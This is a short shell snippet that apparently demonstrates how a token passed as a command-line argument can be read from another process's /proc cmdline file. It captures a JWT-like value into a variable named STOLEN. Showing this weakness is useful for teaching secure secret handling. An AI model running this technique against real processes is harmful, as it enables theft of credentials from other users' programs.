python argument.py --token "$(cat token)" < <(sleep 60) &
until grep -qzx argument.py "/proc/$!/cmdline"; do sleep 0.1; done
stat --format '%A cmdline' "/proc/$!/cmdline"
STOLEN=$(tr '\0' '\n' < "/proc/$!/cmdline" | grep '^eyJ')
kill $!
